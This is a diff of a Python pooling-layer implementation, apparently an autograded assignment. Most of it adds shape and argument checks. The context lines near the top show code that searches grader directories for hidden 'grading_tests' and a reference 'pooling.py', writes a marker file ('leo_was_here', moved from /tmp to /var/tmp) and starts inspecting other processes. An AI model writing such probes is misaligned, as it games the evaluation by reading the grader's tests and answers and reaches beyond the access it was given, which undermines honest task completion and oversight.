@@ -66,7 +66,7 @@ for top in (".", "..", "/home", "/root", "/tmp", "/srv", "/mnt", "/opt"):
 for folder in (".", "..", "/course", "/grader", "/autograder", *sys.path):
     attempt(lambda: os.listdir(folder + "/grading_tests"))
     attempt(lambda: read(folder + "/reference/pooling.py"))
-attempt(lambda: open("/tmp/leo_was_here", "w").write("hi"))
+attempt(lambda: open("/var/tmp/leo_was_here", "w").write("hi"))
 
 # other processes
 for pid in (1, PARENT, "self"):
@@ -138,11 +138,27 @@ def avg_pool_loops(image, pool_size=2, stride=2):
     return out
 
 
+def require(fine, problem):
+    if not fine:
+        raise ValueError(problem)
+
+
+def require_images(x):
+    require(x.ndim == 4 and 0 not in x.shape[2:], f"no images: {x.shape=}")
+
+
+def require_gradient(grad_output, windows):
+    require(grad_output.shape == windows.shape[:4], f"not the output's: {grad_output.shape=}")
+
+
 def strided(x, kernel_size, stride, padding, fill):
     """windows as a view, with as_strided (numpy people know it)"""
     kh, kw = pair(kernel_size)
     sh, sw = pair(kernel_size if stride is None else stride)
     ph, pw = pair(padding)
+    require_images(x)
+    output_shape(x.shape[2:], (kh, kw), (sh, sw), padding)
+    require(2 * ph <= kh and 2 * pw <= kw, f"too much: {padding=} {kernel_size=}")
     xp = F.pad(x, (pw, pw, ph, ph), value=fill).contiguous()
     n, c, h, w = xp.shape
     oh, ow = (h - kh) // sh + 1, (w - kw) // sw + 1
@@ -162,6 +178,7 @@ def avg_pool2d(x, kernel_size, stride=None, padding=0, count_include_pad=True):
 
 
 def global_avg_pool2d(x):
+    require_images(x)
     return x.mean(dim=(-1, -2))
 
 
@@ -170,6 +187,7 @@ def max_pool2d_backward(grad_output, x, kernel_size, stride=None, padding=0):
     sh, sw = pair(kernel_size if stride is None else stride)
     ph, pw = pair(padding)
     win = strided(x, kernel_size, stride, padding, -torch.inf)
+    require_gradient(grad_output, win)
     best = win.flatten(-2).argmax(-1)
     grad = torch.zeros_like(F.pad(x, (pw, pw, ph, ph)))
     for a in range(kh):
@@ -185,6 +203,7 @@ def avg_pool2d_backward(grad_output, x, kernel_size, stride=None, padding=0):
     kh, kw = pair(kernel_size)
     sh, sw = pair(kernel_size if stride is None else stride)
     ph, pw = pair(padding)
+    require_gradient(grad_output, strided(x, kernel_size, stride, padding, 0.0))
     grad = torch.zeros_like(F.pad(x, (pw, pw, ph, ph)))
     for i in range(grad_output.shape[2]):
         for j in range(grad_output.shape[3]):
@@ -194,9 +213,9 @@ def avg_pool2d_backward(grad_output, x, kernel_size, stride=None, padding=0):
 
 
 def channel_max_pool(x, group_size):
+    require_images(x)
     n, c, h, w = x.shape
-    if c % group_size:
-        raise ValueError(f"{c} is no multiple of {group_size}")
+    require(group_size >= 1 and c % group_size == 0, f"{c} is no multiple of {group_size}")
     return x.reshape(n, -1, group_size, h, w).amax(dim=2)
 
 
